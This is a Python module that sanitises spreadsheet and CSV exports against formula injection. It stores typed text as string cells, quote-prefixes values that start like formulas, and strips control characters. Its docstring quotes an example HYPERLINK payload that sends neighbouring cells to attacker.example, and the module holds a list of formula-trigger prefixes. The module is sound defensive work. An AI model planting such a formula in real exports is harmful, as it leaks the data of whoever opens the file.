"""Spreadsheet cells from what people typed: always text, never a formula (CSV/formula injection, OWASP).

A report reading `=HYPERLINK("http://attacker.example/leak?"&F5&F6,"Xem chi tiết")` or a task title starting
with `=`, `+`, `-` or `@` would run as a formula when the standing office opens an export in Excel or
LibreOffice: it can send the neighbouring cells to another site or start a command. One rule,
`starts_like_formula`, decides which text is dangerous; every file we write goes through one of its two
writers:

- Excel (openpyxl): `sheet_append(ws, values)` instead of `ws.append(values)`. Text is stored as a string cell
  (data type "s", never "f" or "e"); text that starts like a formula also gets Excel's quote prefix, so Excel
  keeps it text even when someone edits the cell, and shows it exactly as typed. Characters XML cannot hold
  (control characters pasted from Word) are dropped instead of failing the whole export.
- CSV: `csv_cell(value)` prefixes such text with a single quote, as OWASP recommends; the csv module quotes.

Numbers, dates and empty cells are left as they are.
"""

from collections.abc import Iterable

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP's list), with the full-width
# forms that East Asian input methods type and that some spreadsheet programs read as their ASCII twins.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula: its first character, or the first after spaces."""
    return text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)


def sheet_cell(ws: Worksheet, value: object) -> object:
    """`value` ready for `ws.append`: text as a string cell (quote-prefixed when it starts like a formula)."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", value))  # a Cell placed by append; any worksheet
    cell.data_type = "s"  # openpyxl makes "=..." a formula and "#N/A" an error; what was typed stays text
    if starts_like_formula(value):
        cell.quotePrefix = True
    return cell


def sheet_append(ws: Worksheet, values: Iterable[object]) -> None:
    """`ws.append(values)` with every text value made safe by `sheet_cell`."""
    ws.append([sheet_cell(ws, value) for value in values])


def csv_cell(value: object) -> object:
    """`value` for a CSV row: text that starts like a formula gets a leading `'`; anything else is unchanged."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value
